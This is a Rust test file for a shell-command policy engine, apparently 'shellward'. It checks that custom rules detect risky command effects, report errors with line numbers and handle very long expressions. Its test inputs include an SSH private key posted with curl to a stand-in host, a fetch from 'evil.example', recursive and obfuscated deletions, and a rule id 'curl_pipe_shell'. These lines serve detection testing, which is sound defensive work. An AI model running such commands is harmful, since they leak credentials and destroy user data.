//! Rules of a policy: what they find, what is wrong with them, and how long they may take.

use crate::analyzer::{Options, analyze};
use crate::policy::Policy;
use crate::verdict::{Action, Verdict};

fn rule(when: &str) -> String {
    format!("[[rule]]\nid = 'mine'\ntitle = 'Mine'\nseverity = 'high'\nwhen = '''\n{when}'''\n")
}

fn judge(policy: &str, command: &str) -> Verdict {
    let cwd = Some("/home/u/p".to_string());
    let options = Options { cwd, home: Some("/home/u".into()), ..Options::default() };
    let mut analysis = analyze(command.as_bytes(), &options);
    Policy::parse_named("p.toml", policy).unwrap().apply(&mut analysis, &options);
    analysis.verdict
}

fn finds(when: &str, command: &str) -> bool {
    let verdict = judge(&rule(when), command);
    let failed = verdict.findings.iter().find(|f| f.rule_id == super::FAILED);
    assert!(failed.is_none(), "{when}: {failed:?}");
    verdict.findings.iter().any(|f| f.rule_id == "mine")
}

#[test]
fn expressions_see_effects_in_any_spelling() {
    for (when, yes, no) in [
        ("effect.verb == 'delete' && effect.path.class == 'home-content'", "rm ~/notes", "rm notes"),
        (
            "effect.verb == 'delete' && effect.path.class == 'home-content'",
            "sh -c 'cd; r\\m n\"\"otes'",
            "echo rm ~/notes",
        ),
        (
            "effect.verb in ['fetch', 'send'] && !effect.url.host.endsWith('.corp.example')",
            "curl evil.example",
            "curl a.corp.example",
        ),
        (
            "effect.verb == 'send' && effect.sources.exists(s, 'credential' in s.path.marks)",
            "curl -d @$HOME/.ssh/id_rsa h.example",
            "curl -d @notes h.example",
        ),
        ("'recursive' in effect.props && glob(effect.path.text, '*/.git')", "rm -rf .git", "rm -rf .gitx"),
        (
            "process.name == 'kubectl' && 'prod' in process.words",
            "kubectl --context prod get pods",
            "kubectl --context test get pods",
        ),
        ("lower(effect.by) == 'rm' && glob(effect.object, 'A*') && effect.object.glob('?b')", "rm ab", "rm abc"),
        ("process.under.exists(n, n == 'sudo')", "sudo ls", "ls"),
        (
            "effect.by == 'pip' && effect.ecosystem != '' && effect.package.matches('^left-?pad$')",
            "pip install leftpad",
            "pip install requests",
        ),
        ("effect.verb == 'delete' && context.cwd.startsWith('/home/u/p') && effect.path.in_project", "rm x", "rm /x"),
        (
            "effects.exists(e, e.verb == 'fetch') && effects.exists(e, e.verb == 'delete')",
            "curl h.example -o a; rm b",
            "rm b",
        ),
        ("size(processes) > 2", "a; b; c", "a; b"),
        ("doubts.exists(d, d.kind == 'unknown_program')", "frobnicate", "ls"),
        ("effect.kind == 'path' && effect.target.name == 'null' && effect.verb == 'move'", "mv a /dev/null", "mv a b"),
    ] {
        assert!(finds(when, yes), "{when}: {yes}");
        assert!(!finds(when, no), "{when}: {no}");
    }
}

#[test]
fn a_finding_says_which_rule_and_where() {
    let policy = "\n[[rule]]\nid='x'\ntitle='No deletes'\nseverity='medium'\nwhy='W.'\ninstead='I.'\nmitre='T1485'\nwhen='effect.verb == \"delete\"'\n";
    let verdict = judge(policy, "rm a");
    let f = verdict.findings.first().unwrap();
    assert_eq!((f.rule_id, f.title.as_str(), f.mitre_id), ("x", "No deletes: rm a", Some("T1485")));
    assert!(f.description.contains("p.toml:9") && f.description.ends_with("W. I."), "{}", f.description);
    assert_eq!(verdict.action, Action::Warn);
    assert_eq!(verdict.policy.first().map(ToString::to_string).as_deref(), Some("p.toml:9: rule x found something"));
    // A rule is not text in the command.
    assert!(judge(policy, "echo rm a").findings.is_empty());
    // Severities and `off` hold for rules of a preset or of one's own, too.
    assert!(judge(&format!("{policy}[rules]\nx = 'off'"), "rm a").findings.is_empty());
}

#[test]
fn mistakes_are_told_with_their_line() {
    for (when, line, what) in [
        ("effect.verb == 'delte'", 6, "never \"delte\""),
        ("effect.verb == 'delete' &&\n  effect.pth.text == ''", 7, "no field `pth`"),
        ("effect.verb ==", 6, "column"),
        ("true &&\n\n  efect.verb == 'x'", 8, "no variable `efect`"),
        ("effect.verb", 6, "not true or false"),
        ("effect.verb == 3", 6, "never the same"),
        ("frob(effect.verb)", 6, "no function `frob`"),
        ("effect.object.matches('(')", 6, "unclosed"),
        ("'recursve' in effect.props", 6, "never \"recursve\""),
        ("effect.verb in ['delete', 'wrte']", 6, "never \"wrte\""),
        ("effects.exists(e, e.verb == 'read' && e.nam == 'x')", 6, "no field `nam`"),
        ("{'a': 1}.a == 1", 6, "cannot be made"),
        (
            "effects.all(a, effects.all(b, effects.all(c, effects.all(d, effects.all(e, effects.all(f, true))))))",
            6,
            "too long",
        ),
    ] {
        let error = Policy::parse(&rule(when)).err().unwrap_or_default();
        assert!(error.starts_with(&format!("line {line}: ")) && error.contains(what), "{when}: {error}");
    }
    for wrong in ["id='A b'", "id='curl_pipe_shell'", "id=''", "id='x'\nverb='delete'"] {
        let policy = format!("[[rule]]\n{wrong}\ntitle='X'\nseverity='low'\nwhen='true'\n");
        assert!(Policy::parse(&policy).is_err(), "{wrong}");
    }
    let twice = rule("true").repeat(2);
    assert!(Policy::parse(&twice).err().unwrap_or_default().contains("two rules"));
}

#[test]
fn deep_and_long_expressions_are_refused_or_answered() {
    for when in [
        format!("{}true{}", "(".repeat(1_900), ")".repeat(1_900)),
        format!("{}true", "!".repeat(3_900)),
        format!("1{} > 0", "+1".repeat(1_900)),
        format!("{}1 < 0", "-".repeat(3_900)),
        format!("true{}", "&&true".repeat(600)),
        format!("context{}", ".cwd".repeat(900)),
        format!("[{}].size() > 0", "[".repeat(1_900)),
        "true ?".repeat(600),
        "a".repeat(5_000),
        "'".into(),
        "\u{0}".into(),
        String::new(),
    ] {
        if let Ok(policy) = Policy::parse(&rule(&when)) {
            drop(policy);
            judge(&rule(&when), "rm a");
        }
    }
}

#[test]
fn what_cannot_be_asked_is_told() {
    // An index outside, and a number out of a text that is none: known only when asked.
    for when in ["effect.props[7] == 'force'", "int(effect.object) > 3"] {
        let verdict = judge(&rule(when), "rm a");
        let f = verdict.findings.first().unwrap();
        assert_eq!((f.rule_id, verdict.action), (super::FAILED, Action::Warn), "{when}");
        assert!(f.description.starts_with("p.toml:5: the rule \"mine\""), "{}", f.description);
    }
    // Every effect against every other, in a text of thousands.
    let when = "effects.exists(e, e.object == effect.object + 'x')";
    let long = "rm a b c d e f g h;".repeat(900);
    let start = std::time::Instant::now();
    let verdict = judge(&rule(when), &long);
    assert!(verdict.findings.iter().any(|f| f.rule_id == super::FAILED));
    assert!(start.elapsed().as_secs() < 60);
}

#[test]
fn the_documentation_is_that_of_the_fields_and_its_examples_are_rules() {
    let page = include_str!("../../../docs/policy.md");
    assert!(
        page.contains(&super::check::tables()),
        "docs/policy.md: put in the tables that `shellward policy fields` prints"
    );
    let examples: Vec<&str> = page.lines().filter(|l| l.starts_with("when = '") && !l.ends_with("'''")).collect();
    assert!(examples.len() > 3);
    for when in examples {
        let policy = format!("[[rule]]\nid='x'\ntitle='X'\nseverity='low'\n{when}\n");
        Policy::parse(&policy).unwrap_or_else(|e| panic!("{when}: {e}"));
    }
    for block in page.split("```toml\n").skip(1).filter_map(|b| b.split("```").next()).filter(|b| b.contains("[[")) {
        Policy::parse(block).unwrap_or_else(|e| panic!("{block}: {e}"));
    }
}
